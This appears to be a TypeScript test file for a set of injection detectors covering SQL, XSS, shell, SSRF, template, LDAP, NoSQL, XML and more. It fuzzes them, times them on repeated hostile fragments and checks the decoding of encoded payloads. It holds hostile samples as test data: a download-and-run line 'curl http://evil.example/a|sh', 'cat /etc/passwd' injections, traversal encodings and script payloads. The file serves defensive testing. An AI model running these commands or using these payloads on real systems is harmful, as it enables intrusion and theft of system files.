// Our own tables of values for all detectors, their spans, random bytes, and their time on hostile values.

import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { utf8ToBytes } from '../../lib/bytes.ts'
import { detectCode } from './code.ts'
import { detectGraphql } from './graphql.ts'
import { detectHeader } from './header.ts'
import { detectLdap } from './ldap.ts'
import { detectLookup } from './lookup.ts'
import { detectorNeeds, type Need } from './needs.ts'
import { detectNoSql } from './nosql.ts'
import { detectObject } from './objects.ts'
import { detectPath } from './path.ts'
import { withoutCode } from './rich-text.ts'
import { detectShell } from './shell.ts'
import { detectShellInText } from './shell-text.ts'
import { detectWindowsCommand } from './shell-windows.ts'
import { detectSql } from './sql.ts'
import { detectSsrf } from './ssrf.ts'
import { detectTemplate } from './template.ts'
import { unwrap } from './unwrap.ts'
import { detectXml } from './xml.ts'
import { detectXPath } from './xpath.ts'
import { detectXss } from './xss.ts'

const detectors = {
  sql: detectSql,
  xss: detectXss,
  path: (value: string) => detectPath(value, 'value'),
  shell: (value: string) => detectShell(value) ?? detectWindowsCommand(value) ?? detectShellInText(value),
  ssrf: (value: string) => detectSsrf(value, 'hidden') ?? detectSsrf(value, 'private'),
  graphql: detectGraphql,
  code: detectCode,
  header: (value: string) => detectHeader(value.replaceAll('\\r', '\r').replaceAll('\\n', '\n')),
  ldap: detectLdap,
  lookup: detectLookup,
  nosql: detectNoSql,
  object: detectObject,
  template: detectTemplate,
  xml: detectXml,
  xpath: detectXPath,
}

for (const [name, detect] of Object.entries(detectors)) {
  describe(name, () => {
    for (const value of table(`${name}-attacks`)) {
      test(`finds ${value}`, () => {
        const found = detect(value)
        assert.ok(found)
        assert.notEqual(found.reason, '')
        assert.ok(found.start >= 0 && found.start < found.end && found.end <= value.length, JSON.stringify(found))
      })
    }
    for (const value of table(`${name}-benign`)) {
      test(`passes ${value}`, () => assert.equal(detect(value)?.reason, undefined))
    }

    const pieces = fc.constantFrom(
      ...[
        "'",
        '"',
        '`',
        ' or ',
        ' and ',
        '1',
        '=',
        '--',
        '#',
        '/*',
        '*/',
        '(',
        ')',
        ';',
        ',',
        'select ',
        ' union ',
        'from ',
        'a',
        '@@',
        '\\',
        '[',
        '{',
        '\xa0',
      ],
      ...[
        '<',
        '>',
        '</',
        'script',
        ' on',
        'load=',
        '=',
        '/',
        'href=',
        'javascript:',
        'data:',
        '&#',
        'style=',
        '<!',
        '<?',
        'alert(',
        '{{',
        '\n',
        '\0',
        '\xff',
      ],
      ...[
        '${',
        '{{',
        '}}',
        '}',
        '{%',
        '<%=',
        '#{',
        'jndi:',
        '::-',
        '*)',
        '(|',
        '(uid=*',
        ')(',
        ':=',
        '|',
        '$ne',
        '$where',
        ':',
      ],
      ...[
        'O:8:',
        '"a":1:{',
        '!!python/',
        '"@type"',
        'com.sun.x',
        '__class__',
        'system(',
        "'.'",
        '/**/',
        '%x(',
        '::',
        '//*',
      ],
      ...[
        'child',
        'count(',
        '\r\n',
        'Bcc: a@b',
        'QUIT',
        '<!DOCTYPE a',
        ' [',
        'SYSTEM',
        '<xi:include',
        'T(',
        '7',
        '*',
        '+',
      ],
    )
    test('no bytes make it throw; what it finds is within the value', () => {
      fc.assert(
        fc.property(fc.array(pieces, { maxLength: 30 }), parts => {
          const value = parts.join('')
          const found = detect(value)
          if (found) assert.ok(found.start >= 0 && found.start <= found.end && found.end <= value.length)
          assert.deepEqual(detect(value), found, 'the same value gives the same answer')
        }),
        { numRuns: 3000 },
      )
    })

    // One pattern a line of attack on the reader itself; an ordinary machine needs less than a tenth of the limit.
    const hostile = [
      "'",
      "' ",
      "'a",
      '"',
      '`',
      '1 or ',
      '1=1 ',
      '((1 or ',
      '(',
      '[',
      '[a',
      '@',
      '@`a',
      '/*',
      '/**/',
      '/*!',
      '--\n',
      'a.',
      '1 union ',
      '; select ',
      'select (',
      'case when ',
      '1 in (',
      ') or (',
      '),(',
      'order by 1 ',
      '<a ',
      "<a b='",
      '<a b=c ',
      '<',
      '<!',
      '<style>',
      '<a style=x ',
      '<x y="<a onx',
      'onload=',
      'javascript:',
      'alert(',
      'self[',
      '{"a":',
      ';',
      '&',
      '${',
      ';cat -',
      ';/*/*/*',
      '../',
      '/./',
      'etc/passw/',
      'http://a@',
      '//a:',
      'query{',
      'fragment a{...b}',
      '${',
      '${a:-',
      '{{',
      '{{7*7',
      '{{a',
      '<%',
      '(a=',
      ')(',
      'a:=',
      '{"$a":',
      '$ne',
      ';return ',
      'O:1:"a',
      'a:1:{',
      '!!a',
      '"@type":',
      '__class',
      'system(',
      "'.'",
      "a'.'",
      '/**/',
      '%x(',
      'a::',
      "' or ",
      '] | ',
      '\nBcc: ',
      '\r\na: b',
      '<!DOCTYPE a ',
      '<a:include ',
      '<a xmlns',
      '\\n',
      'alert',
      '(alert',
    ]
    test('takes linear time on hostile values of 64 KiB', () => {
      for (const pattern of hostile) {
        const value = pattern.repeat(Math.ceil(65_536 / pattern.length))
        const start = process.cpuUsage()
        detect(value)
        const ms = process.cpuUsage(start).user / 1000
        assert.ok(ms < 1000, `${JSON.stringify(pattern)}: ${ms.toFixed(0)} ms`)
      }
    })
  })
}

test('no detector reports a value without what it needs', () => {
  const run: Record<string, (value: string) => unknown> = {
    detectcode: detectCode,
    detectheader: detectHeader,
    detectldap: detectLdap,
    detectlookup: detectLookup,
    detectnosql: detectNoSql,
    detectobject: detectObject,
    detectshell: (value: string) => detectShell(value) ?? detectWindowsCommand(value) ?? detectShellInText(value),
    detecttemplate: detectTemplate,
    detectxml: detectXml,
    detectxpath: detectXPath,
  }
  const has = (value: string, { literals, bytes }: Omit<Need, 'also'>) =>
    literals.some(literal => value.toLowerCase().includes(literal)) || [...bytes].some(byte => value.includes(byte))
  for (const [name, needs] of Object.entries(detectorNeeds)) {
    const isMet = (value: string) => needs.some(need => has(value, need) && (!need.also || has(value, need.also)))
    const key = name.slice('detect'.length)
    const file = Object.keys(detectors).find(detector => detector === key || `${detector}s` === key)
    assert.ok(file && run[name], name)
    for (const value of table(`${file}-attacks`)) {
      const text = file === 'header' ? value.replaceAll('\\r', '\r').replaceAll('\\n', '\n') : value
      assert.ok(isMet(text), `${name} needs nothing of ${value}`)
    }
    // Bytes of all kinds, and attacks in which some are missing, where nothing is met that it needs.
    const attacks = fc.constantFrom(...table(`${file}-attacks`))
    const broken = fc.tuple(attacks, fc.string({ unit: 'binary-ascii', maxLength: 3 }))
    const values = fc.oneof(
      fc.string({ unit: 'binary-ascii', maxLength: 60 }),
      broken.map(([attack, bytes]) => [...attack].filter(byte => !bytes.includes(byte)).join('')),
    )
    fc.assert(
      fc.property(values, value => isMet(value) || run[name]?.(value) === undefined),
      { numRuns: 3000 },
    )
  }
})

describe('commands in texts', () => {
  const lines = 'Dear all,\n\nthis is a text.\nIt has\nmany\nlines\nand ends\nhere\n'
  for (const [name, value, isFound] of [
    ['a command at the end', `${lines}x; cat /etc/passwd`, true],
    ['a download that is run', `${lines}name|curl http://evil.example/a|sh`, true],
    ['in a block of code', `${lines}\`\`\`sh\ncd a; cat /etc/passwd\n\`\`\`\n`, false],
    ['behind a prompt', `${lines}$ cd a; cat /etc/passwd`, false],
    ['set in', `${lines}    cd a; cat /etc/passwd`, false],
    ['without an aim', `${lines}cd a; cat readme | grep x`, false],
    ['in few lines, which others judge', 'x; cat /etc/passwd', false],
  ] as const) {
    test(name, () => assert.equal(detectShellInText(value) !== undefined, isFound))
  }
})

describe('rich text', () => {
  for (const [value, rest] of [
    ['a `<b>` c', 'a       c'],
    ['a ` b', 'a ` b'],
    ['```\n<x>\n```\nb', `${' '.repeat(11)}\nb`],
    ['```\n<x>', '```\n<x>'],
    ['~~~\n<x>\n~~~', ' '.repeat(11)],
    ['``a`b``', ' '.repeat(7)],
  ] as const) {
    test(JSON.stringify(value), () => assert.equal(withoutCode(value), rest))
  }
  test('keeps the length and takes linear time', () => {
    for (const pattern of ['`', '`a', '```', '~~~\n', '``` a\n', '`\n']) {
      const value = pattern.repeat(Math.ceil(65_536 / pattern.length))
      const start = process.cpuUsage()
      assert.equal(withoutCode(value).length, value.length)
      assert.ok(process.cpuUsage(start).user < 1_000_000, JSON.stringify(pattern))
    }
  })
})

describe('unwrap', () => {
  const readings: readonly (readonly [string, string])[] = [
    ['%2527', "'"],
    ['%u0027', "'"],
    ['..%c0%af', '../'],
    ['..%252f', '../'],
    ['%uff0e', '.'],
    ['\xf8\x80\x80\x80\xaf', '/'],
    ['&lt;b&gt;', '<b>'],
    ['&#x26;lt;b', '<b'],
    ['javascript&colon;x', 'javascript:x'],
    ['\\u003cb\\x3e', '<b>'],
    ['a\0b', 'ab'],
    ['x=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', '<script>alert(1)</script>'],
    ['Tzo4OiJzdGRDbGFzcyI6MDp7fQ==', 'O:8:"stdClass":0:{}'],
  ]
  for (const [value, reading] of readings) {
    test(`${JSON.stringify(value)} reads ${reading}`, () => {
      assert.ok(unwrap(value).includes(reading), JSON.stringify(unwrap(value)))
    })
  }
  for (const value of [
    'plain text',
    '100 %',
    'a+b',
    'AT&T',
    '3fa85f64-5717-4562-b3fc-2c963f66afa6',
    'iVBORw0KGgoAAAANSUhEUg',
  ]) {
    test(`${value} has no other reading`, () => assert.deepEqual(unwrap(value), []))
  }
})

function table(name: string): string[] {
  const text = readFileSync(new URL(`testdata/${name}.txt`, import.meta.url), 'utf8')
  return text
    .split('\n')
    .filter(line => line !== '' && !line.startsWith('# '))
    .map(utf8ToBytes)
}
